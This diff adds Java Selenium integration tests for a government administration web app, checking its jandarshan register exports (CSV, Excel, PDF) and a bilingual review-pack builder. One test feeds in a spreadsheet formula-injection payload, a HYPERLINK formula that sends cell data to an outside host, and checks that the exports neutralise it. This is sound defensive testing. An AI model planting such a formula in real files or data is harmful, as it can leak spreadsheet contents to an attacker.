@@ -1073,6 +1073,101 @@ class BrowserIT {
         return java.net.http.HttpClient.newHttpClient().send(request, java.net.http.HttpResponse.BodyHandlers.ofByteArray());
     }
 
+    /**
+     * Exports: the collector registers a jandarshan application whose subject a spreadsheet would
+     * run as a formula, then downloads the register. The CSV and the Excel file carry the subject
+     * as text (neutralised), the PDF opens and names the application; all rows, not only the page.
+     */
+    @Test
+    void theJandarshanRegisterDownloadsAsCsvExcelAndPdfWithFormulasNeutralised() throws Exception {
+        String subject = "=HYPERLINK(\"http://example.org/?\"&A1) नामांतरण " + RUN;
+        logIn("collector", Deployments.DEMO_PASSWORD);
+        open("jandarshan/register.xhtml");
+        fillJandarshanApplication(subject);
+        clickAndLoad("jd:save");
+        String ack = browser.findElement(By.id("ackNumber")).getText().replaceAll(".*\\s", "");
+        open("jandarshan/list.xhtml");
+        waitForText(ack);
+
+        String csv = new String(exportFromPage("list", "list:apps-csv"), StandardCharsets.UTF_8);
+        assertThat(csv).startsWith("\uFEFF").contains(ack).contains("'" + subject.replace("\"", "\"\""))
+                .doesNotContain("\"" + subject.substring(0, 10));
+        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(exportFromPage("list", "list:apps-xlsx")))) {
+            var cells = new java.util.ArrayList<String>();
+            workbook.getSheetAt(0).forEach(row -> row.forEach(cell -> cells.add(cell.toString())));
+            assertThat(cells).contains(ack, "'" + subject);
+        }
+        byte[] pdf = exportFromPage("list", "list:apps-pdf");
+        try (var document = org.apache.pdfbox.Loader.loadPDF(pdf)) {
+            assertThat(new org.apache.pdfbox.text.PDFTextStripper().getText(document)).contains(ack);
+            var page = document.getPage(0);
+            boolean turned = page.getRotation() % 180 != 0;
+            assertThat(turned ? page.getMediaBox().getHeight() : page.getMediaBox().getWidth()).as("landscape")
+                    .isGreaterThan(turned ? page.getMediaBox().getWidth() : page.getMediaBox().getHeight());
+        }
+    }
+
+    /** Submits a page's form as its non-AJAX download button would, with the browser's session. */
+    private byte[] exportFromPage(String formId, String buttonId) {
+        browser.manage().timeouts().scriptTimeout(Duration.ofSeconds(60));
+        String base64 = (String) ((JavascriptExecutor) browser).executeAsyncScript(
+                "const done = arguments[arguments.length - 1];"
+                        + "const form = document.getElementById(arguments[0]); const data = new FormData(form);"
+                        + "data.append(arguments[1], arguments[1]);"
+                        + "fetch(form.action, {method: 'POST', body: new URLSearchParams(data)})"
+                        + ".then(r => r.ok ? r.blob() : Promise.reject(r.status))"
+                        + ".then(b => { const f = new FileReader(); f.onload = () => done(f.result.split(',')[1]); f.readAsDataURL(b); })"
+                        + ".catch(e => done('failed ' + e));", formId, buttonId);
+        assertThat(base64).as("download %s", buttonId).doesNotStartWith("failed");
+        return Base64.getDecoder().decode(base64);
+    }
+
+    // --- weekly time-limit review pack (issue 6, pack) ------------------------------------------
+
+    /**
+     * The collector opens the review pack from the MIS menu, builds it for today's meeting and
+     * watches the progress bar fill; then downloads the PDF (landscape, in Hindi and English) and
+     * the workbook (a sheet per part), and finds the pack in the archive. No WCAG 2.1 AA violations.
+     */
+    @Test
+    void collectorBuildsTheReviewPackWithAProgressBarAndDownloadsIt() throws Exception {
+        String meeting = java.time.format.DateTimeFormatter.ofPattern("dd-MM-yyyy")
+                .format(java.time.LocalDate.now(java.time.ZoneId.of("Asia/Kolkata")));
+        logIn("collector", Deployments.DEMO_PASSWORD);
+        clickAndLoad("m-tl-pack");
+        String axe = axeScript();
+        assertNoViolations(axe, "review pack");
+        assertThat(value("build:date_input")).as("today's meeting by default").isEqualTo(meeting);
+        click("build:go");
+        try {
+            wait.until(ExpectedConditions.presenceOfElementLocated(By.id("build:bar")));
+        } catch (org.openqa.selenium.TimeoutException e) {
+            screenshot("tl-pack-no-bar.png");
+            throw new AssertionError("no progress bar; the page says:\n" + pageText(), e);
+        }
+        WebElement bar = browser.findElement(By.id("build:bar"));
+        assertThat(bar.getAttribute("role")).isEqualTo("progressbar");
+        WebElement pdfLink = wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("build:pdf")));
+        settle();
+        assertThat(browser.findElement(By.id("build:bar")).getAttribute("aria-valuenow")).isEqualTo("100");
+        assertThat(pageText()).contains(adminText("The pack is built and archived.", "पत्रक तैयार होकर संग्रहीत हो गया।"));
+        assertThat(browser.findElement(By.id("archive:packs")).getText()).contains(meeting, "collector");
+        assertNoViolations(axe, "review pack built");
+        screenshot("tl-pack.png");
+
+        byte[] pdf = fetchInBrowser(pdfLink.getAttribute("href"));
+        try (org.apache.pdfbox.pdmodel.PDDocument d = org.apache.pdfbox.Loader.loadPDF(pdf)) {
+            assertThat(d.getPage(0).getMediaBox().getWidth()).as("landscape").isGreaterThan(d.getPage(0).getMediaBox().getHeight());
+            assertThat(new org.apache.pdfbox.text.PDFTextStripper().getText(d))
+                    .contains("समय-सीमा समीक्षा पत्रक", "बैठक दिनांक / Meeting date: " + meeting, "राजस्व / Revenue");
+        }
+        byte[] xlsx = fetchInBrowser(browser.findElement(By.id("build:xlsx")).getAttribute("href"));
+        try (var book = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(xlsx))) {
+            assertThat(book.getNumberOfSheets()).isEqualTo(7);
+            assertThat(book.getSheetName(0)).isEqualTo("समय-सीमा पत्र");
+        }
+    }
+
     // --- bulk import of employees and posts; the onboarding tracker (issue 6, onboarding) ------------
 
     /**
